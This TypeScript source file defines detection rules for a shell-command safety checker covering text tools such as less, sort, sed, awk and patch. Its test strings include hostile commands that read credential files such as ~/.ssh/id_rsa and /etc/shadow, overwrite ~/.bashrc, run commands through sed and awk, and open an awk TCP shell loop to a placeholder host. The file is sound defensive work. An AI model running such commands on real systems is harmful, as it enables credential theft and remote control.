import type { Program } from '../program.js';
import { awk, awkOutput } from './awk.js';
import { sed, sedOutput } from './sed.js';
import { filtered } from './text-common.js';

export const textViewers: readonly Program[] = [
  {
    names: ['less', 'more', 'most', 'pg'],
    options: { values: '-o -O -k -p -t -T -P -x -y -z -b -h -j --log-file --LOG-FILE --lesskey-src --lesskey-file' },
    shows: true,
    rules: [
      {
        id: 'option.runs',
        reach: 'anything',
        reason: 'It runs commands when it starts.',
        test: (call) => call.args.some((arg) => /^\+.*[!|]/.test(arg.raw)),
      },
      {
        id: 'option.reads',
        reach: 'filesystem',
        option: '-k --lesskey-src --lesskey-file',
        reason: 'It takes key bindings from a file, which can run programs.',
      },
    ],
    check: (call) =>
      void call.values('-o -O --log-file --LOG-FILE').forEach((file) => {
        call.report('option.writes', 'filesystem', `It writes a copy to ${file.text}.`);
        call.writes(file);
      }),
    match: ["less '+!id' f", 'less -o ~/.bashrc f', 'more ~/.pgpass'],
    not_match: ['less README.md', 'more +10 a.txt'],
  },
  {
    names: ['man', 'info', 'apropos', 'whatis'],
    options: { values: '-P -H -C -M -S -s -L -m -e -R -T -p --pager --html --config-file' },
    rules: [
      {
        id: 'option.runs',
        reach: 'anything',
        option: '-P --pager -H --html -C --config-file',
        reason: 'One of its options runs another program.',
        test: (call) => !/^(?:cat|less)$/.test(call.value('-P --pager')?.text ?? ''),
      },
    ],
    match: ['man -P ./x ls', 'man --html=./x ls', 'man -C ./conf ls'],
    not_match: ['man git', 'man -P cat ls', 'apropos halt', 'man 5 crontab'],
  },
  {
    names: ['sort', 'gsort'],
    options: {
      values:
        '-k -t -o -S -T --key --field-separator --output --buffer-size --temporary-directory --compress-program --files0-from --parallel --batch-size --random-source',
    },
    shows: true,
    rules: [
      {
        id: 'option.runs',
        reach: 'anything',
        option: '--compress-program',
        reason: 'One of its options runs another program.',
        test: (call) => !/^(?:gzip|bzip2|xz|zstd|lz4|pigz)$/.test(call.value('--compress-program')?.text ?? ''),
      },
    ],
    check: (call) => {
      for (const file of call.values('-o --output')) call.writes(file);
      for (const file of call.values('--files0-from')) call.reads(file);
    },
    output: (call) =>
      filtered(call, call.operands, (value) =>
        call.options.length === 0 ? `${value.replace(/\n$/, '').split('\n').sort().join('\n')}\n` : undefined,
      ),
    match: ['sort --compress-prog=./x big', 'sort -o ~/.profile f', 'sort --output=/etc/hosts f'],
    not_match: ['sort -u a.txt', 'sort -k2 -n data.tsv -o sorted.tsv', 'sort -rf names'],
  },
  {
    names: [
      'jq',
      'yq',
      'od',
      'hexdump',
      'hd',
      'strings',
      'diff',
      'colordiff',
      'comm',
      'cmp',
      'paste',
      'join',
      'fold',
      'fmt',
      'pr',
      'column',
      'iconv',
      'dos2unix',
      'xmllint',
      'gron',
      'dasel',
      'mlr',
      'csvcut',
      'glow',
      'delta',
      'split',
      'csplit',
      'date',
      'file',
      'shuf',
      'look',
      'sdiff',
      'diff3',
    ],
    options: {
      values:
        '-f -L -o -i -t -d -n -s -w -c -l -N -j -m --from-file --rawfile --slurpfile --arg --argjson --indent --output --files-from --magic-file --date --reference --set --filter --diff-program --lines --bytes',
    },
    shows: true,
    rules: [
      { id: 'option.runs', reach: 'anything', option: '--filter --diff-program', reason: 'One of its options runs another program.' },
      {
        id: 'sys.clock',
        reach: 'host',
        option: '-s --set',
        reason: 'It sets the clock of the machine.',
        test: (call) => call.name === 'date',
      },
      {
        id: 'option.writes',
        reach: 'filesystem',
        option: '-C --compile',
        reason: 'It writes a compiled file.',
        test: (call) => call.name === 'file',
      },
    ],
    check: (call) => {
      if (/^(?:jq|yq|file|date)$/.test(call.name))
        for (const file of call.values('-f --from-file --rawfile --slurpfile --files-from -m --magic-file --reference')) call.reads(file);
      if (/^(?:shuf|iconv)$/.test(call.name)) for (const file of call.values('-o --output')) call.writes(file);
      if (call.name === 'csplit') for (const prefix of call.values('-f --prefix')) call.writes(prefix);
      const prefix = call.operands[call.operands.length - 1];
      if (call.name === 'split' && prefix && call.operands.length > 1) call.writes(prefix);
      if (call.name === 'yq' && call.has('-i --inplace')) for (const file of call.operands.slice(-1)) call.writes(file);
    },
    match: [
      "split --filter='sh -c id' f",
      'jq . ~/.aws/credentials',
      'date -s 2020-01-01',
      'date -f /etc/shadow',
      'strings ~/.ssh/id_rsa',
      'sdiff --diff-program=./x a b',
      'file -f ~/.netrc',
      'shuf -o ~/.bashrc f',
      'split -C 1k f ~/.ssh/x',
      'csplit -f ~/.bashrc f 10',
    ],
    not_match: [
      'jq -r .name package.json',
      'diff -u a b',
      'date +%s',
      'strings a.out',
      'column -t a.tsv',
      'file a.out',
      'split -l 100 big part-',
    ],
  },
  {
    names: ['sed', 'gsed'],
    options: { values: '-e -f -l -E -s --expression --file --line-length' },
    check: sed,
    output: sedOutput,
    match: [
      'sed -i s/a/b/ ~/.bashrc',
      "sed '1e id' f",
      "sed 's/a/b/we out' f",
      "sed -n 'w out' f",
      "sed --expression='s/x/id/e' f",
      'sed -n p ~/.netrc',
      'sed -f /tmp/x.sed f',
    ],
    not_match: [
      "sed -i 's/a/b/g' src/a.ts",
      "sed -n '10,20p' a.ts",
      "sed -e 's/w/e/' -e '/rm -rf/d' f",
      "sed 's|/etc/passwd|x|' f",
      "sed 's/hello/world/' < a > b",
      "sed '/^#/d' f",
    ],
  },
  {
    names: ['patch', 'gpatch'],
    options: {
      values: '-B -D -F -V -Y -d -g -i -o -p -r -z --directory --ifdef --fuzz --input --output --prefix --reject-file --strip --suffix',
    },
    check: (call) => {
      for (const file of call.values('-o --output -r --reject-file')) if (file.raw !== '-') call.writes(file);
      if (call.operands[0]) call.writes(call.operands[0]);
      const directory = call.value('-d --directory');
      if (directory) call.writes(`${directory.raw}/x`);
    },
    match: ['patch -o ~/.bashrc f < p', 'patch --output=/etc/hosts f p', 'patch ~/.profile < p', 'patch -d /etc -p1 < p'],
    not_match: ['patch -p1 < fix.patch', 'patch --dry-run -p1 -i fix.patch', 'patch src/a.ts fix.patch'],
  },
  {
    names: ['awk', 'gawk', 'mawk', 'nawk', 'original-awk', 'goawk'],
    options: { values: '-f -v -F -i -l -e -E -o -d -p --file --assign --field-separator --include --load --source --exec', stop: true },
    check: awk,
    output: awkOutput,
    match: [
      `awk 'BEGIN{system("id")}'`,
      `awk '{print > "/etc/hosts"}' f`,
      `awk '{print | "sh"}' f`,
      `awk 'BEGIN{"id" | getline x}'`,
      'awk 1 ~/.netrc',
      'gawk -l ./x.so 1',
      "gawk -o/etc/x '{print}' f",
      `awk 'BEGIN{s="/inet/tcp/0/h.example/9"; while(1){s |& getline c; c |& getline}}'`,
    ],
    not_match: [
      `awk '{print $1, $NF}' f`,
      `awk -F: '/rm -rf/ {n++} END {print n}' f`,
      `awk '$3 > 10' f`,
      `awk '{a[$1]++} END {for (k in a) print k, a[k]}' f`,
      `awk '{print $2 > "out.txt"}' f`,
    ],
  },
];
